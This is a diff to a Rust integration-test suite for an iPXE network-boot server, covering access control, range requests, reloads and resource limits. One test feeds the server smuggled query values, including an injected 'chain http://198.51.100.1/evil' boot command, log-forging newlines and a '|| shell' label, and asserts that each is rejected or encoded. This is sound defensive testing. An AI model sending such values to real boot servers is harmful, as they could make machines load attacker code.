@@ -23,14 +23,14 @@ impl Drop for Serve {
 
 impl Serve {
     pub fn start(store: &Path, args: &[&str]) -> Serve {
-        let mut child = imgd(store)
-            .args(["serve", "--listen", "127.0.0.1:0"])
-            .args(args)
-            .env("RUST_LOG", "info")
-            .stdout(Stdio::null())
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
+        let mut cmd = imgd(store);
+        cmd.args(["serve", "--listen", "127.0.0.1:0"]).args(args);
+        Serve::spawn(cmd)
+    }
+
+    /// Runs `cmd` (an `imgd serve` command line) until it says where it listens.
+    pub fn spawn(mut cmd: Command) -> Serve {
+        let mut child = cmd.env("RUST_LOG", "info").stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
         let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
         let deadline = Instant::now() + Duration::from_secs(60);
         let mut seen = String::new();
@@ -50,7 +50,18 @@ impl Serve {
                 l2.lock().unwrap().push_str(&(line + "\n"));
             }
         });
+        // A `[::]` listener says so; clients reach it on IPv4 loopback.
+        let base = base.replace("[::]", "127.0.0.1");
         Serve { child, base, _stderr: t, log }
+    }
+
+    /// Waits (bounded) until the log contains `text`.
+    pub fn wait_log(&self, text: &str) {
+        let end = Instant::now() + Duration::from_secs(30);
+        while !self.log.lock().unwrap().contains(text) {
+            assert!(Instant::now() < end, "no `{text}` in the log: {}", self.log.lock().unwrap());
+            std::thread::sleep(Duration::from_millis(50));
+        }
     }
 
     pub fn signal(&self, sig: &str) {
@@ -457,4 +468,202 @@ fn build_flag_builds_missing_profiles_and_profile_urls_boot_them() {
     assert_eq!(st, 200);
     assert!(body.contains(&format!("kernel /artifacts/{}/vmlinuz", entries(&store)[0])), "{body}");
     assert_eq!(curl(&[&format!("{}/profiles/debian/boot.ipxe", s.base)]).0, 404, "only referenced profiles");
+}
+
+#[test]
+fn downloads_follow_the_machines_file() {
+    let h = hello();
+    let d = tempfile::tempdir().unwrap();
+    let lab = "[[group]]\nname = \"lab\"\nprofile = \"hello\"\nselector = { source = [\"127.0.0.64/26\"] }\n";
+    let conf = write_config(d.path(), lab);
+    let s = Serve::start(&h.store, &["--config", &conf]);
+    let (entry, _) = hello_entry();
+    let get = |from: &str, path: &str| curl(&["--interface", from, "-r", "0-0", &format!("{}{path}", s.base)]).0;
+    let kernel = format!("/artifacts/{entry}/vmlinuz");
+    let disk = format!("/artifacts/{entry}/disk.raw");
+    assert_eq!(get("127.0.0.70", &kernel), 206, "a lab machine fetches its kernel");
+    assert_eq!(get("127.0.0.70", &format!("/artifacts/{entry}/initrd")), 206);
+    assert_eq!(get("127.0.0.70", &format!("/artifacts/{entry}/boot.ipxe")), 206);
+    assert_eq!(get("127.0.0.5", &kernel), 403, "outside the group's source: nothing");
+    assert_eq!(get("127.0.0.5", &format!("/artifacts/{entry}/initrd")), 403);
+    assert_eq!(get("127.0.0.70", &disk), 403, "disks only where a group opts in");
+    assert_eq!(get("127.0.0.70", &format!("/artifacts/{entry}/rootfs.tar.zst")), 403);
+    assert_eq!(get("127.0.0.70", "/profiles/hello/boot.ipxe"), 200);
+    assert_eq!(get("127.0.0.5", "/profiles/hello/boot.ipxe"), 403);
+    // A group that opts in to disks (e.g. to install from the network).
+    write_config(d.path(), &format!("{lab}downloads = [\"disk\"]\n"));
+    s.signal("HUP");
+    let end = Instant::now() + Duration::from_secs(20);
+    while get("127.0.0.70", &disk) != 206 {
+        assert!(Instant::now() < end, "the reload did not open disk downloads");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert_eq!(get("127.0.0.5", &disk), 403, "still only for the group's machines");
+    assert_eq!(get("127.0.0.70", &format!("/artifacts/{entry}/rootfs.tar.zst")), 403);
+}
+
+#[test]
+fn a_dual_stack_listener_matches_ipv4_clients_against_ipv4_networks() {
+    let h = hello();
+    let d = tempfile::tempdir().unwrap();
+    let conf = write_config(
+        d.path(),
+        "[[group]]\nname = \"lab\"\nprofile = \"hello\"\nselector = { source = [\"127.0.0.64/26\"] }\n",
+    );
+    let mut cmd = imgd(&h.store);
+    cmd.args(["serve", "--listen", "[::]:0", "--config", &conf, "--allow", "127.0.0.0/8"]);
+    cmd.args(["--trusted-proxy", "127.0.0.1/32"]);
+    let s = Serve::spawn(cmd);
+    let url = |p: &str| format!("{}{p}", s.base);
+    assert_eq!(curl(&["--interface", "127.0.0.2", &url("/healthz")]).0, 200, "IPv4 through [::] is allowed");
+    let (_, _, body) = curl(&["--interface", "127.0.0.70", &url("/ipxe?mac=52-54-00-00-00-01")]);
+    assert!(String::from_utf8_lossy(&body).contains("group lab"), "{}", String::from_utf8_lossy(&body));
+    // Behind the trusted proxy (IPv4-mapped too), the forwarded address counts.
+    let (_, _, body) =
+        curl(&["--interface", "127.0.0.1", "-H", "X-Forwarded-For: 127.0.0.70", &url("/ipxe?mac=52-54-00-00-00-01")]);
+    assert!(String::from_utf8_lossy(&body).contains("group lab"), "{}", String::from_utf8_lossy(&body));
+}
+
+#[test]
+fn hostile_query_values_never_reach_a_script_or_a_log_line() {
+    let h = hello();
+    let d = tempfile::tempdir().unwrap();
+    let conf = write_config(d.path(), "[[group]]\nname = \"all\"\nprofile = \"hello\"\ndefault = true\n");
+    let s = Serve::start(&h.store, &["--config", &conf]);
+    for q in [
+        "mac=x%20%3B%20chain%20http://198.51.100.1/evil%20%3B",
+        "mac=52-54-00-00-00-01%0Aimgd%3A%20forged%20line",
+        "hostname=db%0A3",
+        "serial=%1B%5B2J",
+        "uuid=%24%7Bnet0/ip%7D",
+        "ra%0Ack=1",
+    ] {
+        let (st, _, body) = curl(&[&format!("{}/ipxe?{q}", s.base)]);
+        let body = String::from_utf8_lossy(&body);
+        assert_eq!(st, 400, "{q}: {body}");
+        assert!(!body.contains("chain http://198.51.100.1") && !body.contains("forged line"), "{q}: {body}");
+    }
+    let log = s.log.lock().unwrap().clone();
+    assert!(!log.contains("\nimgd: forged line") && !log.contains("198.51.100.1"), "{log}");
+    // Labels come back only percent-encoded.
+    let (_, _, body) = curl(&[&format!("{}/boot.ipxe?rack=7%20%7C%7C%20shell", s.base)]);
+    let body = String::from_utf8_lossy(&body);
+    assert!(body.contains("&rack=7%20%7C%7C%20shell") && !body.contains("|| shell"), "{body}");
+}
+
+#[test]
+fn overlapping_ranges_cost_one_copy_of_the_file_at_most() {
+    let h = hello();
+    let s = Serve::start(&h.store, &["--serve-all"]);
+    let (entry, _) = hello_entry();
+    let size = std::fs::metadata(h.file("initrd")).unwrap().len();
+    let url = format!("{}/artifacts/{entry}/initrd", s.base);
+    let many = format!("Range: bytes={}", vec!["0-"; 16].join(","));
+    let (st, _, body) = curl(&["-H", &many, &url]);
+    assert_eq!((st, body.len() as u64), (206, size), "sixteen overlapping ranges are one range");
+    let spread = format!("Range: bytes={}", (0..16).map(|i| format!("{}-", i * 1000)).collect::<Vec<_>>().join(","));
+    let (st, _, body) = curl(&["-H", &spread, &url]);
+    assert_eq!((st, body.len() as u64), (206, size), "nested ranges coalesce too");
+}
+
+/// A copy of the repo's profiles and hardware, to edit.
+fn project_copy(dir: &Path) -> std::path::PathBuf {
+    let root = dir.join("project");
+    for sub in ["profiles", "hardware"] {
+        std::fs::create_dir_all(root.join(sub)).unwrap();
+        for e in std::fs::read_dir(repo().join(sub)).unwrap() {
+            let e = e.unwrap();
+            std::fs::copy(e.path(), root.join(sub).join(e.file_name())).unwrap();
+        }
+    }
+    root
+}
+
+#[test]
+fn a_tool_upgrade_or_an_edited_profile_never_takes_a_group_off_the_air() {
+    let h = hello();
+    let (entry, _) = hello_entry();
+    let d = tempfile::tempdir().unwrap();
+    let conf = write_config(d.path(), "[[group]]\nname = \"g\"\nprofile = \"hello\"\ndefault = true\n");
+    let boots = |s: &Serve| {
+        let (_, _, body) = curl(&[&format!("{}/ipxe?mac=52-54-00-00-00-01", s.base)]);
+        String::from_utf8_lossy(&body).contains(&format!("kernel /artifacts/{entry}/vmlinuz"))
+    };
+    let stale = |s: &Serve| {
+        let (_, _, m) = curl(&[&format!("{}/metrics", s.base)]);
+        let m = String::from_utf8_lossy(&m).into_owned();
+        let line = format!("imgd_group_stale{{group=\"g\",profile=\"hello\",entry=\"{entry}\"}} ");
+        m.lines().find_map(|l| l.strip_prefix(&line)).map(str::to_string).unwrap_or_else(|| panic!("{m}"))
+    };
+    // The server's mke2fs reports another version: the input hash changes.
+    let bin = d.path().join("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let fake = bin.join("mke2fs");
+    std::fs::write(
+        &fake,
+        "#!/bin/sh\n[ \"$1\" = -V ] && { echo 'mke2fs 9.99 (1-Jan-2031)'; exit 0; }\nexec /usr/sbin/mke2fs \"$@\"\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+    let mut cmd = imgd(&h.store);
+    cmd.env("PATH", &path).args(["serve", "--listen", "127.0.0.1:0", "--config", &conf]);
+    let s = Serve::spawn(cmd);
+    assert!(boots(&s), "the group boots the build the store has");
+    assert_eq!(stale(&s), "1", "and says it is not the current build");
+    s.wait_log(&format!("serving {entry} instead"));
+    drop(s);
+
+    // A profile edited before a SIGHUP: the group keeps what it served.
+    let root = project_copy(d.path());
+    let s = Serve::start(&h.store, &["--config", &conf, "--root", root.to_str().unwrap()]);
+    assert!(boots(&s));
+    assert_eq!(stale(&s), "0", "the exact current build");
+    let profile = root.join("profiles/hello.toml");
+    let text = std::fs::read_to_string(&profile).unwrap().replace("imgd hello image", "edited, not built");
+    std::fs::write(&profile, text).unwrap();
+    s.signal("HUP");
+    s.wait_log("reloaded configuration");
+    assert!(boots(&s), "a reload keeps what was served when the new build is missing");
+    assert_eq!(stale(&s), "1");
+}
+
+#[test]
+fn under_a_low_open_files_limit_clients_beyond_it_get_503_not_a_hang() {
+    let h = hello();
+    let mut cmd = Command::new("prlimit");
+    cmd.arg("--nofile=256:256").arg(env!("CARGO_BIN_EXE_imgd"));
+    cmd.env("IMGD_STORE", &h.store).env("IMGD_ROOT", repo()).current_dir(repo());
+    cmd.args(["serve", "--listen", "127.0.0.1:0", "--serve-all"]);
+    let s = Serve::spawn(cmd);
+    s.wait_log("does not fit in the open-files limit (256)");
+    let addr = s.base.trim_start_matches("http://").to_string();
+    // More idle connections than 256 descriptors allow.
+    let held: Vec<_> = (0..300).filter_map(|_| std::net::TcpStream::connect(&addr).ok()).collect();
+    assert!(held.len() >= 200, "could open only {}", held.len());
+    std::thread::sleep(Duration::from_millis(300));
+    let start = Instant::now();
+    let (st, hd, _) = curl(&["--max-time", "10", &format!("{}/healthz", s.base)]);
+    assert_eq!(st, 503, "{hd}");
+    assert!(start.elapsed() < Duration::from_secs(5), "the refusal took {:?}", start.elapsed());
+    drop(held);
+    let end = Instant::now() + Duration::from_secs(10);
+    while curl(&[&format!("{}/healthz", s.base)]).0 != 200 {
+        assert!(Instant::now() < end, "the server did not recover");
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+#[test]
+fn a_machines_file_with_control_characters_is_refused_naming_the_key() {
+    let h = hello();
+    let d = tempfile::tempdir().unwrap();
+    let conf = write_config(
+        d.path(),
+        "[[group]]\nname = \"g\"\nprofile = \"hello\"\ndefault = true\nkernel_args = \"quiet\\nshell\"\n",
+    );
+    let out = imgd(&h.store).args(["serve", "--listen", "127.0.0.1:0", "--config", &conf]).output().unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("machines.toml:5:") && err.contains("group[0].kernel_args"), "{err}");
 }
